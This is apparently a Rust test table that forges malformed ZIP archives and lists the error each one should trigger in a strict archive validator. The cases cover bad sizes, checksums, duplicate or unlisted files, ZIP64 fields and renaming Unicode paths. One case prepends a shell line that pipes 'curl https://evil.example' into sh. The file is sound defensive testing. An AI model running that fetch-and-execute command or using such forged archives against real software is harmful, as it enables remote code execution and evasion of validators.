//! Forged streams, headers, directories and ends: what lies in the zip, and where.

use super::{EVIL, FOLDER, Row, add, evil};
use crate::forge::{COMPRESSED, CRC, DISK, FLAGS, METHOD, POSITION, SIZE, TIME};

/// The Unicode path field of Info-ZIP (0x7075).
fn unicode_path(name: &[u8], other: &str) -> Vec<u8> {
    let mut crc = flate2::Crc::new();
    crc.update(name);
    let mut field = vec![0x75, 0x70, (other.len() + 5) as u8, 0, 1];
    field.extend(crc.sum().to_le_bytes());
    field.extend(other.as_bytes());
    field
}

/// A ZIP64 field with numbers.
fn zip64(numbers: &[u64]) -> Vec<u8> {
    let mut field = vec![1, 0, numbers.len() as u8 * 8, 0];
    field.extend(numbers.iter().flat_map(|number| number.to_le_bytes()));
    field
}

/// ZIP64 end and locator, for a directory that begins and has a size.
fn zip64_end(count: u64, size: u64, begins: u64) -> Vec<u8> {
    let mut end = b"PK\x06\x06".to_vec();
    end.extend(44u64.to_le_bytes());
    end.extend([20, 0, 20, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    for number in [count, count, size, begins] {
        end.extend(number.to_le_bytes());
    }
    end.extend(b"PK\x06\x07\0\0\0\0");
    end.extend((begins + size).to_le_bytes());
    end.extend(1u32.to_le_bytes());
    end
}

pub(super) const TABLE: &[Row] = &[
    (
        "a stream that is longer than its declared size",
        |forge| {
            let part = forge.part("März.md");
            part.both(|header| header.numbers[SIZE] = Some(23));
        },
        "it is longer than the zip says",
    ),
    (
        "a stream that is shorter than its declared size",
        |forge| {
            forge
                .part("März.md")
                .both(|header| header.numbers[SIZE] = Some(99_999))
        },
        "it is shorter than the zip says",
    ),
    (
        "bytes behind the end of a deflated stream",
        |forge| {
            let part = forge.part("März.md");
            part.data.extend(EVIL);
            let length = part.data.len() as u64;
            part.both(|header| header.numbers[COMPRESSED] = Some(length));
        },
        "there is more behind its deflated bytes",
    ),
    (
        "a deflated stream without its end",
        |forge| {
            let part = forge.part("März.md");
            part.data.pop();
            let length = part.data.len() as u64;
            part.both(|header| header.numbers[COMPRESSED] = Some(length));
        },
        "its deflated bytes are cut short",
    ),
    (
        "a checksum that fits nothing",
        |forge| {
            forge
                .part("logo.png")
                .both(|header| header.numbers[CRC] = Some(1))
        },
        "its checksum does not match",
    ),
    (
        "a directory with one file more than the end counts",
        |forge| {
            let line = forge.parts[0].central[0].clone();
            forge.parts[0].central.push(line);
            let count = forge.parts.len() as u64;
            forge.end[2] = Some(count);
            forge.end[3] = Some(count);
        },
        "its directory lists",
    ),
    (
        "the second file of a name",
        |forge| add(forge, &format!("{FOLDER}/data/site/index.html")),
        "there are two of that name",
    ),
    (
        "a file that is not in the directory",
        |forge| {
            let mut part = evil(forge, &format!("{FOLDER}/data/more.html"));
            part.central.clear();
            forge.parts.push(part);
        },
        "its directory does not list",
    ),
    (
        "a line of the directory for a file that is listed already",
        |forge| {
            let mut line = forge.parts[0].central[0].clone();
            line.name = format!("{FOLDER}/data/site/index.html").into();
            forge.parts.last_mut().expect("parts").central.push(line);
        },
        "its directory lists more files than there are",
    ),
    (
        "a whole zip in front",
        |forge| {
            let mut other = forge.clone();
            other.part("index.html").data = b"<p>Jello</p>".to_vec();
            forge.before = other.bytes();
        },
        "bytes are behind its end",
    ),
    (
        "a whole zip behind",
        |forge| forge.behind = forge.bytes(),
        "bytes are behind its end",
    ),
    (
        "something in front",
        |forge| forge.before = b"#!/bin/sh\ncurl https://evil.example | sh\nexit\n".to_vec(),
        "something is in front of its first file",
    ),
    (
        "one byte behind",
        |forge| forge.behind = vec![0],
        "1 bytes are behind its end",
    ),
    (
        "a comment",
        |forge| {
            forge.end[6] = Some(5);
            forge.behind = b"hello".to_vec();
        },
        "the length of the comment is 5 instead of 0",
    ),
    (
        "a comment that is another end",
        |forge| {
            let end = forge.bytes();
            let end = end[end.len() - 22..].to_vec();
            forge.end[6] = Some(22);
            forge.behind = end;
        },
        "the length of the comment is 22 instead of 0",
    ),
    (
        "a comment of a file",
        |forge| forge.parts[1].central[0].comment = b"hello".to_vec(),
        "the length of the comment is 5 instead of 0",
    ),
    (
        "something between the files",
        |forge| forge.parts[1].behind = EVIL.to_vec(),
        "is neither a file nor its directory",
    ),
    (
        "something in front of the directory",
        |forge| forge.before_directory = EVIL.to_vec(),
        "is neither a file nor its directory",
    ),
    (
        "something behind the directory",
        |forge| forge.before_end = EVIL.to_vec(),
        "there is no end of the directory",
    ),
    (
        "a digital signature of the directory",
        |forge| forge.before_end = b"PK\x05\x05\x02\0ab".to_vec(),
        "there is no end of the directory",
    ),
    (
        "a data descriptor",
        |forge| {
            let part = forge.part("index.html");
            part.both(|header| header.numbers[FLAGS] = Some(8));
            part.behind = b"PK\x07\x08".to_vec();
            for at in [CRC, COMPRESSED, SIZE] {
                let number = part.local.numbers[at].expect("read") as u32;
                part.behind.extend(number.to_le_bytes());
            }
        },
        "are behind it",
    ),
    (
        "stored sizes that differ",
        |forge| {
            forge
                .part("logo.png")
                .both(|header| header.numbers[SIZE] = Some(5))
        },
        "and said to have 5",
    ),
    (
        "a stored size that lies over the next file",
        |forge| {
            let part = forge.part("logo.png");
            for at in [COMPRESSED, SIZE] {
                part.both(|header| header.numbers[at] = header.numbers[at].map(|size| size + 40));
            }
        },
        "is neither a file nor its directory",
    ),
    (
        "two lines for one place",
        |forge| forge.part("index.html").central[0].numbers[POSITION] = Some(0),
        "the position is 0 instead of",
    ),
    (
        "a size that goes beyond the end",
        |forge| {
            forge.part("logo.png").both(|header| {
                for at in [COMPRESSED, SIZE] {
                    header.numbers[at] = Some(1 << 30);
                }
            })
        },
        "goes on beyond the end",
    ),
    (
        "a Unicode path that renames",
        |forge| {
            forge.part("index.html").both(|header| {
                header.extra = unicode_path(&header.name, "acme-2026-03-31-plain/data/x.html");
            });
        },
        "has other extra fields",
    ),
    (
        "a Unicode path in the directory alone",
        |forge| {
            let line = &mut forge.part("index.html").central[0];
            line.extra = unicode_path(&line.name, "acme-2026-03-31-plain/data/x.html");
        },
        "has other extra fields",
    ),
    (
        "an extra field of a time",
        |forge| forge.parts[0].both(|header| header.extra = vec![0x55, 0x54, 5, 0, 1, 0, 0, 0, 0]),
        "has other extra fields",
    ),
    (
        "ZIP64 sizes that are not needed",
        |forge| {
            let part = forge.part("index.html");
            let sizes = [SIZE, COMPRESSED].map(|at| part.local.numbers[at].expect("read"));
            part.both(|header| {
                header.numbers[2] = Some(45);
                header.numbers[COMPRESSED] = Some(u32::MAX.into());
                header.numbers[SIZE] = Some(u32::MAX.into());
                header.extra = zip64(&sizes);
            });
        },
        "has other extra fields",
    ),
    (
        "ZIP64 sizes in the directory alone",
        |forge| {
            let line = &mut forge.part("index.html").central[0];
            line.extra = zip64(&[5, 5]);
        },
        "the ZIP64 field of",
    ),
    (
        "a ZIP64 position that is not needed",
        |forge| {
            let line = &mut forge.part("index.html").central[0];
            line.numbers[POSITION] = Some(u32::MAX.into());
            line.extra = zip64(&[0]);
        },
        "the ZIP64 field of",
    ),
    (
        "a size that a ZIP64 field should have, without one",
        |forge| {
            forge
                .part("index.html")
                .both(|header| header.numbers[SIZE] = Some(u32::MAX.into()))
        },
        "has other extra fields",
    ),
    (
        "a ZIP64 end that is not needed",
        |forge| {
            let fits = forge.bytes();
            let end = &fits[fits.len() - 22..];
            let number =
                |at: usize| u64::from(u32::from_le_bytes(end[at..at + 4].try_into().expect("4")));
            forge.before_end = zip64_end(forge.parts.len() as u64, number(12), number(16));
        },
        "there is no end of the directory",
    ),
    (
        "a ZIP64 end that leads elsewhere",
        |forge| {
            forge.before_end = zip64_end(1, 46, 0);
            forge.end[3] = Some(0xffff);
        },
        "there is no end of the directory",
    ),
    (
        "another disk",
        |forge| forge.end[0] = Some(1),
        "the number of the disk is 1 instead of 0",
    ),
    (
        "another disk of the directory",
        |forge| forge.end[1] = Some(1),
        "the disk of the directory is 1 instead of 0",
    ),
    (
        "a file on another disk",
        |forge| forge.parts[0].central[0].numbers[DISK] = Some(1),
        "the number of the disk is 1 instead of 0",
    ),
    (
        "fewer files on the disk than there are",
        |forge| forge.end[2] = Some(1),
        "the number of files on the disk is 1 instead of",
    ),
    (
        "fewer files than there are",
        |forge| forge.end[3] = Some(1),
        "the number of files is 1 instead of",
    ),
    (
        "a directory that begins elsewhere",
        |forge| forge.end[5] = Some(0),
        "the position of the directory is 0 instead of",
    ),
    (
        "a directory of another size",
        |forge| forge.end[4] = Some(46),
        "the size of the directory is 46 instead of",
    ),
    (
        "an encrypted file",
        |forge| forge.parts[0].both(|header| header.numbers[FLAGS] = Some(0x801)),
        "it is encrypted by the zip",
    ),
    (
        "a file that the directory alone says is encrypted",
        |forge| forge.part("index.html").central[0].numbers[FLAGS] = Some(1),
        "the flags is 1 instead of 0",
    ),
    (
        "another method",
        |forge| forge.parts[0].both(|header| header.numbers[METHOD] = Some(9)),
        "is packed by method 9",
    ),
    (
        "another method in the directory",
        |forge| forge.part("logo.png").central[0].numbers[METHOD] = Some(8),
        "the method is 8 instead of 0",
    ),
    (
        "another size in the directory",
        |forge| forge.part("logo.png").central[0].numbers[SIZE] = Some(5),
        "the size is 5 instead of 6000",
    ),
    (
        "another checksum in the directory",
        |forge| forge.part("logo.png").central[0].numbers[CRC] = Some(5),
        "the CRC-32 is 5 instead of",
    ),
    (
        "another time",
        |forge| {
            forge
                .part("logo.png")
                .both(|header| header.numbers[TIME] = Some(5))
        },
        "the time of",
    ),
    (
        "the directory in another order",
        |forge| {
            let last = forge.parts.len() - 1;
            let first = forge.parts[0].central.clone();
            forge.parts[0].central = forge.parts[last].central.clone();
            forge.parts[last].central = first;
        },
        "its directory lists",
    ),
    (
        "no file",
        |forge| forge.parts.clear(),
        "there is no file in it",
    ),
    (
        "another system, which reads names in another way",
        |forge| {
            for part in &mut forge.parts {
                part.central[0].numbers[1] = Some(0);
            }
        },
        "the system that it was made on is 0 instead of 3",
    ),
];
